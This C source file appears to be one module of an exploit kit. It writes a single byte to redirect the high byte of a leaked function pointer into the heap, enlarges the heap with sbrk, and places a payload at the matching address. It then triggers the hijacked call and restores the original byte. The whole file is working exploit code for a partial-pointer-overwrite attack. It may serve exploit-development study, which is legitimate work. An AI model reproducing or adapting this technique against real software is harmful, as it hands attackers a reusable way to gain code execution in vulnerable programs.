// Only one byte of a function pointer can be written: the highest. The pointer then leads into the heap of this program,
// where the payload waits at the same low 24 bits.
#include "exploit.h"

enum { HIGH_BYTE = 0x01, PAGE = 4096 };

static int run(const struct vuln_leak *leak) {
    uint32_t target = (leak->handler & 0xffffff) | HIGH_BYTE << 24;
    uint32_t end = (uint32_t)sbrk(0);
    if (!sbrk(target + PAGE - end)) return NOT_HERE;
    memcpy((void *)target, moved_payload, sizeof moved_payload);
    announce("partial", target);
    vuln(VULN_POKE_BYTE, leak->handler_pointer + 3, HIGH_BYTE);
    int cs = vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE_BYTE, leak->handler_pointer + 3, leak->handler >> 24);
    return cs;
}

const struct exploit exploit_partial = {"partial", run, 0};
